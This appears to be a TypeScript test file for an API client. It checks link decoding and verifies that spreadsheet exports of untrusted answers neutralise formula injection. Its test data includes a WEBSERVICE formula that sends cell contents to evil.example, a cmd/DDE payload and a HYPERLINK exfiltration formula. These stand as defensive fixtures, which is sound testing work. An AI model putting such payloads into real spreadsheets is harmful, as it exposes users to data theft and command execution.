import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { cellRefFromHref, decodeHref, sheetLayout } from '@intellio/api-client';

describe('answer links and cells: what an untrusted answer can write', () => {
  it('reads a malformed link target as no link instead of throwing (the answer view rendered nothing)', () => {
    assert.equal(decodeHref('%E0%A4'), null);
    assert.equal(decodeHref('P1'), 'P1');
    assert.equal(cellRefFromHref('#cell=%E0%A4', 'Sheet1'), null);
    assert.deepEqual(cellRefFromHref('#cell=Sheet2!B4', 'Sheet1'), { sheet: 'Sheet2', address: 'B4' });
  });

  it('writes no line, table cell, quote or document name that a spreadsheet would run as a formula', () => {
    const answer = ['+WEBSERVICE("https://evil.example/?d="&A1)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '| a | b |', '|---|---|', '| +A1*2 | 3 |'].join('\n');
    const citations = [{ id: 'P1', documentId: 'd', documentName: '-evil".pdf', page: 1, quote: '+HYPERLINK("https://a/?"&B2)', url: 'https://app.example/x' }];
    const { rows } = sheetLayout({ answer, citations, claims: [], includeCitations: true });
    const cells = rows.flat().filter((v): v is string => typeof v === 'string');
    for (const v of cells) assert.doesNotMatch(v, /^[\t\r]*[=+\-@]/, v);
    assert.ok(cells.includes('\'+WEBSERVICE("https://evil.example/?d="&A1)'));
    assert.ok(cells.some((v) => v.startsWith('\'+HYPERLINK(')));
  });
});
